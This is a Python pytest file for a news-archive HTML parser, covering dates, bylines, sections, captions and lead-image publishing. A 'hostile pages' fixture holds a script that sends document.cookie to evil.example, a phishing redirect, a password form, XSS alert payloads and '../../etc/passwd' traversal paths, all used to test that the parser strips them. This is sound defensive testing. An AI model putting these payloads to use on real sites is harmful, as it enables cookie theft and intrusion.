"""The HTML reader (saved pages → Article) and lead images, on small real-looking pages."""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import re
from datetime import datetime, timedelta, timezone
from pathlib import Path
from zoneinfo import ZoneInfo

import markdown
import pytest
from PIL import Image

from newsarchive import images
from newsarchive.article import Article
from newsarchive.errors import SeedError
from newsarchive.images import publish_lead_image, srcset
from newsarchive.ingest import Options, ingest
from newsarchive.markdown import to_markdown
from newsarchive.parse import parse_seed
from newsarchive.parse.html import parse_html
from newsarchive.seeds import RawSeed, read_seed

PARAGRAPHS = [
    "The harbour board voted on Tuesday to approve a plan that will rebuild the eastern breakwater "
    "over the next four years, ending a dispute that has divided the town since the storms of 2021.",
    "The plan, which will cost an estimated 42 million pounds, was passed by seven votes to two after "
    "a debate that lasted well into the evening and drew more than 200 residents to the town hall.",
    "Fishing crews, who had warned that a longer closure of the eastern quay would put them out of "
    "business, said they were relieved that the work would be done in stages over the winter months.",
    "“We have waited a long time for this, and we will hold them to the timetable,” said one skipper, "
    "who has worked out of the harbour for more than thirty years and asked not to be named.",
    "Opponents of the plan argued that the money would be better spent on flood defences further "
    "along the coast, where dozens of homes were damaged during the storms two winters ago.",
    "Work on the first stage is due to begin in March, once the final designs have been approved by "
    "the marine agency and the contracts have been signed with the engineering firms involved.",
]
BODY = "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
UTC = timezone.utc


def page(head: str = "", top: str = "", body: str = BODY, after: str = "", h1: str = "Harbour plan approved") -> str:
    """A saved news page: head metadata, an article with a headline, `top` furniture and the body."""
    headline = f"<h1>{h1}</h1>" if h1 else ""
    return (
        f"<!DOCTYPE html><html lang='en'><head><meta charset='utf-8'><title>Harbour plan approved | Daily Example</title>"
        f"{head}</head><body><nav><a href='/'>Home</a> <a href='/news'>News</a></nav>"
        f"<article>{headline}{top}{body}{after}</article><footer>© Daily Example</footer></body></html>"
    )


DATED = '<meta property="article:published_time" content="2024-03-05T09:30:00-05:00">'


def raw(html: str, path: str = "seeds/harbour.html") -> RawSeed:
    return RawSeed(path=path, kind="html", text=html, sha256=hashlib.sha256(html.encode()).hexdigest())


def read(html: str, **kwargs: object) -> Article:
    return parse_html(raw(html), **kwargs)  # type: ignore[arg-type]


def ld(**fields: object) -> str:
    data = {"@context": "https://schema.org", "@type": "NewsArticle", **fields}
    return f'<script type="application/ld+json">{json.dumps(data)}</script>'


# --- metadata ---------------------------------------------------------------------------------

EST = timezone(timedelta(hours=-5))
DATES = [
    ("JSON-LD datePublished", ld(headline="Harbour plan approved", datePublished="2024-03-05T09:30:00-05:00"), "",
     datetime(2024, 3, 5, 9, 30, tzinfo=EST)),
    ("JSON-LD in @graph", '<script type="application/ld+json">{"@graph": [{"@type": "WebSite", "name": "x"}, '
     '{"@type": "NewsArticle", "headline": "H", "datePublished": "2024-03-05T14:30:00Z"}]}</script>', "",
     datetime(2024, 3, 5, 14, 30, tzinfo=UTC)),
    ("article:published_time", '<meta property="article:published_time" content="2024-03-05T14:30:00+00:00">', "",
     datetime(2024, 3, 5, 14, 30, tzinfo=UTC)),
    ("meta name=date", '<meta name="date" content="2024-03-05">', "", datetime(2024, 3, 5, tzinfo=UTC)),
    ("time datetime", "", '<time datetime="2024-03-05T10:00:00+01:00">5 March 2024</time>',
     datetime(2024, 3, 5, 10, 0, tzinfo=timezone(timedelta(hours=1)))),
    ("no offset: read as UTC", '<meta property="article:published_time" content="2024-03-05T09:30:00">', "",
     datetime(2024, 3, 5, 9, 30, tzinfo=UTC)),
    ("JSON-LD before Open Graph",
     ld(datePublished="2024-03-05T09:30:00-05:00") + '<meta property="article:published_time" content="2020-01-01T00:00:00Z">', "",
     datetime(2024, 3, 5, 9, 30, tzinfo=EST)),
    ("impossible JSON-LD year falls through", ld(datePublished="0001-01-01T00:00:00Z") + DATED, "",
     datetime(2024, 3, 5, 9, 30, tzinfo=EST)),
    ("visible dateline", "", '<div class="publish-date">Published 2:16 AM EST Nov 20, 2019</div>',
     datetime(2019, 11, 20, 2, 16, tzinfo=ZoneInfo("America/New_York"))),
    ("update is not publication", DATED + '<meta property="article:modified_time" content="2024-04-01T00:00:00Z">', "",
     datetime(2024, 3, 5, 9, 30, tzinfo=EST)),
    # the day the page shows, not the UTC day of its metadata
    ("visible dateline over a UTC timestamp", '<meta property="article:published_time" content="2019-11-19T04:31:00Z">',
     '<div class="post-date">Nov 18, 2019, 10:31 pm CST</div>', datetime(2019, 11, 18, 22, 31, tzinfo=ZoneInfo("America/Chicago"))),
    ("date in the byline", ld(datePublished="2018-04-18T14:39:09+02:00"), '<p class="post-author">By Jane Doe - 2019-04-10</p>',
     datetime(2019, 4, 10, tzinfo=UTC)),
    ("'Published:' line", "", "<p>Published: Monday, November 18th, 2019 at 11:08 a.m.</p>", datetime(2019, 11, 18, 11, 8, tzinfo=UTC)),
    ("<time> text over its UTC attribute", "", '<time datetime="2019-11-19T04:50:22Z">November 18, 2019</time>',
     datetime(2019, 11, 18, tzinfo=UTC)),
    ("UTC timestamp moved to the local wall time stated beside it",
     ld(datePublished="2019-11-19T04:58:46Z") + '<meta name="sailthru.date" content="2019-11-18 20:58:46">', "",
     datetime(2019, 11, 18, 20, 58, 46, tzinfo=timezone(timedelta(hours=-8)))),
    ("yearless <time> text gives the local day of its UTC attribute", "",
     '<time datetime="2019-11-19T01:19:34.819Z">Posted Nov 18, 8:19 PM</time>',
     datetime(2019, 11, 18, 20, 19, 34, 819000, tzinfo=timezone(timedelta(hours=-5)))),
    ("visible date only, same day as the timestamp: the timestamp's time", DATED, '<span class="date">March 5, 2024</span>',
     datetime(2024, 3, 5, 9, 30, tzinfo=EST)),
]


@pytest.mark.parametrize("lang, dateline, day", [
    ("pt-BR", "05/10/2018 - Publicado por: Clarissa Borba", "2018-10-05"),
    ("en-GB", "05/10/2018", "2018-10-05"),
    ("en", "05/10/2018 ... 19/11/2019", "2018-10-05"),  # another date on the page settles the order
    ("en-US", "05/10/2018", None),  # nothing tells: the dateline is refused, the metadata's date is used
])
def test_numeric_dateline_order_from_the_page(lang: str, dateline: str, day: str | None) -> None:
    html = page(head=DATED, top=f'<div class="entry-date">{dateline.split(" ... ")[0]}</div>'
                + (f'<p class="related-date">{dateline.split(" ... ")[1]}</p>' if " ... " in dateline else ""))
    article = read(html.replace("lang='en'", f"lang='{lang}'"))
    assert article.published is not None
    assert article.published.date().isoformat() == (day or "2024-03-05")


@pytest.mark.parametrize("name, head, top, expected", DATES, ids=[d[0] for d in DATES])
def test_publication_date_is_timezone_aware(name: str, head: str, top: str, expected: datetime) -> None:
    article = read(page(head=head, top=top))
    assert article.published == expected
    assert article.published is not None and article.published.utcoffset() == expected.utcoffset()


def test_modified_date_is_kept_apart() -> None:
    article = read(page(head=DATED + '<meta property="article:modified_time" content="2024-04-01T08:00:00Z">'))
    assert article.modified == datetime(2024, 4, 1, 8, 0, tzinfo=UTC)


AUTHORS = [
    ("JSON-LD people, organisation left out",
     ld(author=[{"@type": "Person", "name": "Jane Doe"}, {"@type": "Organization", "name": "Daily Example"}]), "<p>Jane Doe</p>", ["Jane Doe"]),
    ("JSON-LD string with two names", ld(author="By Jane Doe and John Roe"), "<p>Jane Doe, John Roe</p>", ["Jane Doe", "John Roe"]),
    ("meta author with the outlet after a full stop", '<meta name="author" content="Finian Cunningham. Sputnik International">',
     "<p>Finian Cunningham</p>", ["Finian Cunningham"]),
    ("meta author with an e-mail", '<meta name="author" content="Troy Smith | tsmith@example.com">', "<p>Troy Smith</p>", ["Troy Smith"]),
    ("article:author URL ignored", '<meta property="article:author" content="https://www.facebook.com/someone">'
     '<meta name="author" content="Jane Doe">', "<p>Jane Doe</p>", ["Jane Doe"]),
    ("meta author the page never shows", '<meta name="author" content="Kevin Uploader">', "", []),
    ("visible byline over a meta author it does not name", '<meta name="author" content="Kevin Uploader">',
     '<p class="byline">By Jane Doe</p>', ["Jane Doe"]),
    ("visible byline naming more than the markup", ld(author={"@type": "Person", "name": "Jane Doe"}),
     '<p class="byline">By Jane Doe, John Roe and Ann Lee</p>', ["Jane Doe", "John Roe", "Ann Lee"]),
    ("JSON-LD author given by reference", '<script type="application/ld+json">' + json.dumps({"@context": "https://schema.org",
     "@graph": [{"@type": "NewsArticle", "headline": "Harbour plan approved", "author": {"@id": "#p1"}},
                {"@type": "Person", "@id": "#p1", "name": "Lewis White"}]}) + "</script>", "<p>Lewis White</p>", ["Lewis White"]),
    ("agency byline is no person", "", '<p class="byline">By Associated Press</p>', []),
    ("single name after an explicit By", "", '<p class="byline">by Regan</p>', ["Regan"]),
    ("byline line without markup", "", "<p>By Matthew Digby , Minh Do on Monday, November 18th, 2019 at 11:08 a.m.</p>",
     ["Matthew Digby", "Minh Do"]),
    ("visible byline", "", '<p class="byline">By Jane Doe and John Roe</p>', ["Jane Doe", "John Roe"]),
    ("rel=author link", "", '<a rel="author" href="/staff/jd">Jane Doe</a>', ["Jane Doe"]),
    ("staff is not a person", '<meta name="author" content="HNN Staff">', "", []),
]


@pytest.mark.parametrize("name, head, top, expected", AUTHORS, ids=[a[0] for a in AUTHORS])
def test_authors(name: str, head: str, top: str, expected: list[str]) -> None:
    assert list(read(page(head=DATED + head, top=top)).authors) == expected


TITLES = [
    ("<h1> agrees with og:title", '<meta property="og:title" content="Harbour plan approved | Daily Example">',
     "Harbour plan approved", "Harbour plan approved"),
    ("<h1> is the site's logo", '<meta property="og:title" content="Harbour plan approved by the board">',
     "Games", "Harbour plan approved by the board"),
    ("no <h1>: <title> without the site name", '<meta property="og:site_name" content="Daily Example">', "", "Harbour plan approved"),
    ("the visible headline over a social title", '<meta property="og:title" content="Board says yes">',
     "Harbour plan approved after long debate", "Harbour plan approved after long debate"),
    ("JSON-LD headline with an entity left in", ld(headline="Chelsea pay &#163;71.6m for keeper"), "", "Chelsea pay £71.6m for keeper"),
]


@pytest.mark.parametrize("name, head, h1, expected", TITLES, ids=[t[0] for t in TITLES])
def test_title(name: str, head: str, h1: str, expected: str) -> None:
    assert read(page(head=DATED + head, h1=h1)).title == expected


def test_section_outlet_language_and_keywords() -> None:
    head = DATED + ld(articleSection=["Local News", "Home"], publisher={"@type": "Organization", "name": "The Daily Example"},
                      keywords="harbour, council, ctp_video") + '<meta property="og:site_name" content="https://www.example.com">'
    article = read(page(head=head, top="<p><a href='/local'>Local News</a></p>").replace("lang='en'", "lang='en-GB'"))
    assert (article.category, article.source, article.language) == ("Local News", "The Daily Example", "en")
    assert article.seed_tags == ("harbour", "council")


@pytest.mark.parametrize("section, expected", [("News - News", "News"), ("gizmodo.com", ""), ("post", ""),
                                                ("Commercial Real Estate,Home Page,Popular", "Commercial Real Estate")])
def test_section_cleanup(section: str, expected: str) -> None:
    head = DATED + f'<meta property="article:section" content="{section}">'
    shown = f"<p><a href='/section'>{expected or section}</a></p>"
    assert read(page(head=head, top=shown)).category == expected


def crumbs_ld(*names: str) -> str:
    items = [{"@type": "ListItem", "position": n, "name": name} for n, name in enumerate(names, start=1)]
    return f'<script type="application/ld+json">{json.dumps({"@context": "https://schema.org", "@type": "BreadcrumbList", "itemListElement": items})}</script>'


SECTIONS = [
    ("JSON-LD breadcrumb shown on the page", crumbs_ld("Home", "Markets"), "<p><a href='/markets'>Markets</a></p>", "Markets"),
    ("breadcrumb markup, headline last", "", "<ol class='breadcrumb'><li><a href='/'>Home</a></li><li><a href='/music'>Music</a></li>"
     "<li><a href='/music/news'>Music News</a></li><li>Harbour plan approved</li></ol>", "Music News"),
    ("breadcrumb with a second trail", "", "<div class='breadcrumbs'><a href='/'>Home</a> <a href='/space'>Astronomy &amp; Space</a> "
     "<a href='/space/x'>Space Exploration</a> <a href='/space'>Astronomy &amp; Space</a> <a href='/bio'>Astrobiology</a></div>",
     "Space Exploration"),
    ("kicker over the headline", "", "<div class='eyebrow'><a href='/earnings'>Earnings</a></div>", "Earnings"),
    ("kicker with a path", "", "<div class='article-top-label'><a href='/impact'>Impact</a> / <a href='/impact/space'>Space</a></div>",
     "Space"),
    ("an unlinked kicker is a strapline", "", "<div class='article__kicker'>PLAGUE FEARS</div>", ""),
    ("an unlinked kicker the markup declares", '<meta property="article:section" content="Space">',
     "<div class='article__kicker'>Space</div>", "Space"),
    ("a showcase label is no section", '<meta property="article:section" content="Spotlight">',
     "<p><a href='/spotlight'>Spotlight</a></p>", ""),
    ("every declared section is tried", ld(articleSection="Business News") + '<meta property="article:section" content="Airshow">',
     "<p><a href='/airshow'>Airshow</a></p>", "Airshow"),
    ("a generic trail label gives way to a declared one shown", '<meta name="parsely-section" content="space">',
     "<ol class='breadcrumb'><li><a href='/'>Home</a></li><li><a href='/news/'>News</a></li></ol>"
     "<p><a href='/space'>Space</a></p>", "Space"),
    ("a generic trail label alone is kept", "", "<ol class='breadcrumb'><li><a href='/'>Home</a></li><li><a href='/news/'>News</a></li></ol>",
     "News"),
    ("a generic declared label does not beat the trail", '<meta property="article:section" content="News">',
     "<ol class='breadcrumb'><li><a href='/'>Home</a></li><li><a href='/w'>World</a></li></ol><p><a href='/news/'>News</a></p>", "World"),
    ("a generic declared label gives way to a kicker link", '<meta property="article:section" content="News">',
     "<p><a href='/news/'>News</a></p><div class='eyebrow'><a href='/politics'>Politics</a></div>", "Politics"),
    ("the outlet's name is no section", '<meta property="og:site_name" content="Daily Example">'
     '<meta property="article:section" content="Daily Example">', "<p><a href='/'>Daily Example</a></p>", ""),
    ("an author's name is no section", '<meta name="author" content="Ann Bell">',
     "<ol class='breadcrumb'><li><a href='/'>Home</a></li><li><a href='/ann'>Ann Bell</a></li></ol><p class='byline'>By Ann Bell</p>", ""),
    ("a site's category list is a menu", '<meta property="article:section" content="Gardens">',
     "<ul><li class='cat-item'><a href='/c/gardens'>Gardens</a></li></ul>", ""),
    ("a labelled tag list is no section", "", "<div class='tags'>Topics <a href='/t/health'>Health</a> <a href='/t/china'>China</a></div>",
     ""),
    ("'Filed under' one link", "", "<p class='postinfo'>Filed under: <a href='/c/harbours'>Harbours</a> |</p>", "Harbours"),
    ("'Filed under' a list of tags", "", "<div class='tag-list'>Filed under <a href='/t/a'>harbours</a> , <a href='/t/b'>storms</a></div>",
     ""),
    ("meta section the page never shows", '<meta property="article:section" content="Spotlight">', "", ""),
    ("a person in the kicker is no section", "", "<div class='kicker'><a href='/staff/jd'>Molly Wood</a></div>", ""),
    ("a page control is no section", "", "<div class='post-categories'><a href='#c'>Feed for comments</a></div>", ""),
    ("a section link in the menu only", '<meta property="article:section" content="Business">', "", ""),
    ("a section link just over the headline", "", "<header><span><a href='/nation'>Nation</a></span><h1>Harbour plan approved</h1></header>",
     "Nation"),
    ("a tagline over the headline is no section", "", "<header><a href='/smart'>SmartNews Keeping you current</a>"
     "<h1>Harbour plan approved</h1></header>", ""),
]


def test_section_shown_only_after_the_story_is_none() -> None:
    """A declared section the page shows only in a list of other stories below the article is not
    the label the story is filed under; the same label inside the article is."""
    head = DATED + ld(articleSection="Politics")
    more = "<section class='component'><h3>Politics</h3><a href='/politics'>More</a></section>"
    after_story = page(head=head).replace("</article>", "</article>" + more)
    in_story = page(head=head, after="<p><a href='/politics'>Politics</a></p>")
    assert (read(after_story).category, read(in_story).category) == ("", "Politics")


@pytest.mark.parametrize("name, head, top, expected", SECTIONS, ids=[s[0] for s in SECTIONS])
def test_section_the_page_shows(name: str, head: str, top: str, expected: str) -> None:
    html = page(head=DATED + head, top=top, h1="" if "<h1>" in top else "Harbour plan approved").replace("<a href='/news'>News</a>", "<a href='/news'>News</a> <a href='/b'>Business</a>")
    assert read(html).category == expected


# --- body -------------------------------------------------------------------------------------


def test_body_paragraphs_are_verbatim_text() -> None:
    body = BODY.replace("<p>Work on", '<p>Work on <a href="/x">the <em>first</em> stage</a>, as agreed, <b>on</b>')
    article = read(page(head=DATED, body=body))
    assert article.body[:5] == tuple(PARAGRAPHS[:5])
    assert article.body[5].startswith("Work on the first stage, as agreed, on the first stage is due to begin")


FURNITURE = [
    ("repeated headline", "<h2>Harbour plan approved</h2>", "", "repeated-headline"),
    ("standfirst heading", "<h2>The board ends a two-year dispute over the breakwater</h2>", "", "standfirst"),
    ("advertisement label", "", "<p>Advertisement</p>", "advertisement"),
    ("related links list", "", "<h3>More on this story</h3><ul><li><a href='/a'>Council to vote on new parking charges</a></li>"
     "<li><a href='/b'>Ferry timetable changes announced for winter</a></li></ul>", ""),
    ("author contact line", "", "<p>Contact Jane Doe at jane.doe@example.com.</p>", "contact-line"),
]


@pytest.mark.parametrize("name, top, after, rule", FURNITURE, ids=[f[0] for f in FURNITURE])
def test_furniture_leaves_the_body(name: str, top: str, after: str, rule: str) -> None:
    head = DATED + '<meta property="og:description" content="The board ends a two-year dispute over the breakwater">'
    article = read(page(head=head, top=top, after=after))
    assert article.body == tuple(PARAGRAPHS)
    if rule:
        assert rule in {r.rule for r in article.removed}


def test_a_tail_rule_ends_the_story_only_near_its_end() -> None:
    early = "<p>Sign up for our daily newsletter to get the news first.</p>"
    body = early + BODY + "<p>Sign up for our weekly newsletter.</p><p>Our newsletter is sent every Friday.</p>"
    article = read(page(head=DATED, body=body))
    assert article.body[-1] == PARAGRAPHS[-1]
    assert PARAGRAPHS[1] in article.body


def test_a_paragraph_after_a_comment_is_kept_whole() -> None:
    body = BODY.replace("Fishing crews, who had warned", "Fishing crews, <!-- ad slot --> who had warned")
    assert read(page(head=DATED, body=body)).body[2] == PARAGRAPHS[2]


def test_an_embedded_tweet_is_part_of_the_story() -> None:
    tweet = ('<div class="social-media-embed"><blockquote class="twitter-tweet"><p lang="en">The breakwater vote '
             'is a great day for every fishing family in this town and we thank the board for listening</p>'
             '— Harbour Fishers (@harbourfishers) <a href="https://twitter.com/x/status/1">March 5, 2024</a></blockquote></div>')
    body = BODY.replace("<p>Opponents", tweet + "<p>Opponents")
    article = read(page(head=DATED, body=body))
    assert any(p.startswith("The breakwater vote is a great day") for p in article.body)


# --- figure, caption, credit, lead image -------------------------------------------------------

FIGURES = [
    ("credit markup", '<figcaption>The harbour at dawn. <span class="credit">Photo: John Roe/Example</span></figcaption>',
     "The harbour at dawn.", "John Roe/Example"),
    ("agency credit in parentheses", "<figcaption>A cargo ship leaves the eastern quay. (AP)</figcaption>",
     "A cargo ship leaves the eastern quay.", "AP"),
    ("caption and credit blocks inside a credit-named caption",
     '<figcaption class="image__caption-credit"><div class="image__caption">The quay in 1987.</div>'
     '<div class="image__credit">Photo by David Dyer-Bennet.</div></figcaption>', "The quay in 1987.", "David Dyer-Bennet"),
    ("screen-reader label", '<figcaption><span class="off-screen">Image caption</span> Crews unload the morning catch</figcaption>',
     "Crews unload the morning catch", ""),
    ("credit sentence at the end", "<figcaption>Crews unload the morning catch. Photograph by Ann Lee</figcaption>",
     "Crews unload the morning catch.", "Ann Lee"),
]


@pytest.mark.parametrize("name, figcaption, caption, credit", FIGURES, ids=[f[0] for f in FIGURES])
def test_caption_and_credit_from_the_lead_figure(name: str, figcaption: str, caption: str, credit: str) -> None:
    figure = f'<figure><img src="https://cdn.example.com/quay.jpg">{figcaption}</figure>'
    article = read(page(head=DATED, top=figure))
    assert (article.caption, article.credit) == (caption, credit)
    assert caption not in article.body


def data_uri(size: tuple[int, int] = (640, 400), fmt: str = "PNG") -> str:
    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 90, 160)).save(buffer, fmt)
    return f"data:image/{fmt.lower()};base64," + base64.b64encode(buffer.getvalue()).decode()


BIG_URI = data_uri()
IMAGE_REFS = [
    ("relative file", '<img src="harbour_files/quay.jpg">', "", "harbour_files/quay.jpg"),
    ("dot-slash, escaped space, query", '<img src="./harbour_files/the%20quay.jpg?w=800">', "", "harbour_files/the quay.jpg"),
    ("remote", '<img src="https://cdn.example.com/quay.jpg">', "", ""),
    ("protocol-relative", '<img src="//cdn.example.com/quay.jpg">', "", ""),
    ("site-absolute", '<img src="/images/quay.jpg">', "", ""),
    ("escaping the folder", '<img src="../../etc/passwd">', "", ""),
    ("escaped escape", '<img src="harbour_files/%2e%2e/%2e%2e/secret.jpg">', "", ""),
    ("javascript", '<img src="javascript:alert(1)">', "", ""),
    ("placeholder gif before a remote data-src",
     '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" data-src="https://cdn.example.com/q.jpg">', "", ""),
    ("embedded image", f'<img src="{BIG_URI}">', "",
     "data:image/png;sha256=" + hashlib.sha256(BIG_URI.split(",", 1)[1].encode()).hexdigest()),
]


@pytest.mark.parametrize("name, img, head, expected", IMAGE_REFS, ids=[i[0] for i in IMAGE_REFS])
def test_lead_image_reference_is_local_or_nothing(name: str, img: str, head: str, expected: str) -> None:
    figure = f"<figure>{img}<figcaption>The eastern quay at dawn</figcaption></figure>"
    assert read(page(head=DATED + head, top=figure)).image == expected


def test_og_image_names_the_lead_among_local_copies() -> None:
    head = DATED + '<meta property="og:image" content="https://cdn.example.com/2024/03/breakwater.jpg?w=1200">'
    top = '<img src="harbour_files/logo.png"><img src="harbour_files/breakwater.jpg">'
    assert read(page(head=head, top=top)).image == "harbour_files/breakwater.jpg"


# --- bytes, charsets, broken markup -------------------------------------------------------------


def test_declared_charsets_and_gzip(tmp_path: Path) -> None:
    cyrillic = page(head=DATED, h1="Диета Аткинса: потеря веса за 14 дней").replace("charset='utf-8'", "charset='windows-1251'")
    (tmp_path / "ru.html").write_bytes(cyrillic.encode("cp1251"))
    latin = page(head=DATED, h1="Café owners welcome the harbour plan").replace(
        "<meta charset='utf-8'>", '<meta http-equiv="Content-Type" content="text/html; charset=ISO-8859-1">')
    (tmp_path / "fr.htm").write_bytes(latin.encode("cp1252"))  # WHATWG: ISO-8859-1 means Windows-1252
    stale = page(head=DATED, h1="Café owners welcome the plan again").replace("charset='utf-8'", "charset='iso-8859-1'")
    (tmp_path / "stale.html").write_bytes(stale.encode("utf-8"))  # re-saved as UTF-8, old meta tag kept
    (tmp_path / "zipped.html.gz").write_bytes(gzip.compress(page(head=DATED).encode("utf-8")))
    titles = [parse_seed(read_seed(tmp_path / name)).title for name in ("ru.html", "fr.htm", "stale.html", "zipped.html.gz")]
    assert titles == ["Диета Аткинса: потеря веса за 14 дней", "Café owners welcome the harbour plan",
                      "Café owners welcome the plan again", "Harbour plan approved"]


def test_xml_declaration_and_broken_markup_are_tolerated() -> None:
    broken = ("<?xml version='1.0' encoding='utf-8'?><html><head><title>Harbour plan approved</title>" + DATED
              + "<body><div><h1>Harbour plan approved<p>" + "<p>".join(PARAGRAPHS) + "</div></span></table><p>unclosed <b>bold")
    article = read(broken)
    assert article.title == "Harbour plan approved"
    assert article.body[:6] == tuple(PARAGRAPHS)


@pytest.mark.parametrize(
    "html, reason",
    [
        (page(head=DATED, body="<p>Short.</p>"), "no article body"),
        (page(head=DATED, h1="").replace("<title>Harbour plan approved | Daily Example</title>", ""), "no headline"),
        (page(), "no publication date"),
        ("<html><body></body></html>", "no headline"),
    ],
)
def test_what_cannot_be_an_article_is_refused(html: str, reason: str) -> None:
    with pytest.raises(SeedError, match=reason):
        read(html)


def test_undated_page_is_allowed_when_asked() -> None:
    assert read(page(), allow_undated=True).published is None


# --- hostile pages ------------------------------------------------------------------------------

HOSTILE_HEAD = (
    '<base href="https://evil.example/">'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/phish">'
    '<meta property="og:title" content="Harbour plan approved">'
    '<script>document.location="https://evil.example/steal?c="+document.cookie</script>'
    '<script type="application/ld+json">{"@type": "NewsArticle", "headline": "Harbour plan approved",'
    ' "datePublished": "2024-03-05T09:30:00Z", "author": {"name": "Jane Doe<\\/script><script>alert(1)<\\/script>"}}</script>'
    '<style>body { background: url("https://evil.example/track.png") }</style>'
    '<link rel="stylesheet" href="https://evil.example/x.css">'
)
HOSTILE_BODY = (
    '<p onclick="steal()">' + PARAGRAPHS[0] + "</p>"
    '<script>alert("in body")</script>'
    '<form action="https://evil.example/login"><input name="password" value="hunter2"><button>Log in</button></form>'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<img src="https://evil.example/pixel.gif" width="1" height="1" onerror="alert(2)">'
    '<p><a href="javascript:alert(3)">' + PARAGRAPHS[1] + "</a> More text follows here in the same paragraph to make it prose.</p>"
    '<svg onload="alert(4)"><text>svg text</text></svg>'
    '<p style="background:url(https://evil.example/bg.png)">' + PARAGRAPHS[2] + "</p>"
    + "".join(f"<p>{p}</p>" for p in PARAGRAPHS[3:])
    + '<p>Literal markup as text: &lt;script&gt;alert(5)&lt;/script&gt; stays words on the page, as the story quotes it.</p>'
)


def test_hostile_markup_leaves_nothing_executable_or_remote() -> None:
    article = read(page(head=HOSTILE_HEAD, body=HOSTILE_BODY, top='<figure><img src="https://evil.example/lead.jpg">'
                        "<figcaption>The quay <script>alert(6)</script>at dawn</figcaption></figure>"))
    values = json.dumps(article.to_dict(), ensure_ascii=False)
    for needle in ("evil.example", "steal", "alert(1)", "alert(2)", "alert(3)", "alert(4)", "alert(6)", "onclick",
                   "onerror", "javascript:", "hunter2", "password", "document.cookie", "svg text"):
        assert needle not in values, needle
    assert article.image == ""
    assert article.caption == "The quay at dawn"
    assert article.authors == ()
    assert article.body[0] == PARAGRAPHS[0] and article.body[2] == PARAGRAPHS[2]
    assert article.body[1].startswith(PARAGRAPHS[1])
    # the one piece of markup the page shows as text stays text, and the Markdown writer escapes it
    assert "<script>alert(5)</script>" in article.body[-1]
    rendered = markdown.markdown(to_markdown(article, "harbour").split("\n\n", 1)[1], extensions=["extra"])
    assert "<script" not in rendered and "&lt;script&gt;alert(5)" in rendered
    assert not re.search(r"<(?!/?p>)", rendered)


# --- lead images published by ingest ------------------------------------------------------------


def save_photo(path: Path, size: tuple[int, int] = (1600, 900), mode: str = "RGB") -> bytes:
    path.parent.mkdir(parents=True, exist_ok=True)
    image = Image.new(mode, size, (200, 40, 40, 255) if mode == "RGBA" else (200, 40, 40))
    for x in range(0, size[0], 40):
        for y in range(0, size[1], 3):
            image.putpixel((x, y), (10, 10, 200, 255) if mode == "RGBA" else (10, 10, 200))
    image.save(path, "PNG" if mode == "RGBA" else "JPEG", quality=92)
    return path.read_bytes()


def article_with(ref: str, seed_path: str = "seeds/harbour.html") -> Article:
    return Article(title="Harbour plan approved", published=datetime(2024, 3, 5, tzinfo=UTC), body=("x",),
                   image=ref, seed_path=seed_path)


def test_local_image_published_in_srcset_widths(tmp_path: Path) -> None:
    seeds, content = tmp_path / "seeds", tmp_path / "content"
    save_photo(seeds / "harbour_files" / "quay.jpg")
    article, files = publish_lead_image(article_with("harbour_files/quay.jpg"), seeds, content)
    stem = files[0].split("/")[1].split("-")[0]
    assert files == [f"images/{stem}-480.jpg", f"images/{stem}-960.jpg", f"images/{stem}-1440.jpg"]
    assert article.image == f"images/{stem}-1440.jpg"
    assert [Image.open(content / f).size for f in files] == [(480, 270), (960, 540), (1440, 810)]
    assert srcset(article.image, content) == ", ".join(f"{f} {w}w" for f, w in zip(files, (480, 960, 1440)))
    again, _ = publish_lead_image(article_with("harbour_files/quay.jpg"), seeds, tmp_path / "other")
    assert all((content / f).read_bytes() == (tmp_path / "other" / f).read_bytes() for f in files)  # deterministic


def test_embedded_image_published_from_the_page(tmp_path: Path) -> None:
    seeds, content = tmp_path / "seeds", tmp_path / "content"
    seeds.mkdir()
    html = page(head=DATED, top=f'<figure><img src="{BIG_URI}"><figcaption>The quay from above</figcaption></figure>')
    (seeds / "harbour.html").write_text(html, encoding="utf-8")
    parsed = parse_seed(read_seed(seeds / "harbour.html", "seeds/harbour.html"))
    article, files = publish_lead_image(parsed, seeds, content)
    assert [f.rsplit("-", 1)[1] for f in files] == ["480.jpg", "640.jpg"]
    assert Image.open(content / article.image).size == (640, 400)


@pytest.mark.parametrize(
    "ref, prepare, note",
    [
        ("harbour_files/missing.jpg", lambda d: None, "no such file"),
        ("harbour_files/link.jpg", lambda d: (d / "harbour_files" / "link.jpg").symlink_to(d.parent / "outside.jpg"), "symbolic link"),
        ("harbour_files/../../outside.jpg", lambda d: None, "not a plain relative path"),
        ("harbour_files/icon.jpg", lambda d: save_photo(d / "harbour_files" / "icon.jpg", (64, 64)), "too small"),
        ("harbour_files/fake.jpg", lambda d: (d / "harbour_files" / "fake.jpg").write_text(
            '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), "not a readable"),
        ("data:image/png;sha256=" + "0" * 64, lambda d: None, "no longer in the page"),
    ],
)
def test_unusable_images_are_noted_not_published(tmp_path: Path, ref: str, prepare, note: str) -> None:  # type: ignore[no-untyped-def]
    seeds, content = tmp_path / "seeds", tmp_path / "content"
    (seeds / "harbour_files").mkdir(parents=True)
    (seeds / "harbour.html").write_text(page(head=DATED), encoding="utf-8")
    save_photo(tmp_path / "outside.jpg")
    prepare(seeds)
    article, files = publish_lead_image(article_with(ref), seeds, content)
    assert (article.image, files) == ("", [])
    assert note in article.notes[-1]
    assert not (content / "images").exists()


def test_huge_images_are_refused_before_decoding(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(images, "MAX_PIXELS", 1000 * 1000)
    save_photo(tmp_path / "seeds" / "harbour_files" / "big.jpg", (1600, 900))
    article, _ = publish_lead_image(article_with("harbour_files/big.jpg"), tmp_path / "seeds", tmp_path / "content")
    assert article.image == "" and "too large" in article.notes[-1]


def test_transparent_images_stay_png(tmp_path: Path) -> None:
    save_photo(tmp_path / "seeds" / "harbour_files" / "logo.png", (800, 300), mode="RGBA")
    article, files = publish_lead_image(article_with("harbour_files/logo.png"), tmp_path / "seeds", tmp_path / "content")
    assert article.image.endswith("-800.png") and Image.open(tmp_path / "content" / article.image).mode == "RGBA"


def test_ingest_writes_the_image_and_removes_it_with_its_seed(tmp_path: Path) -> None:
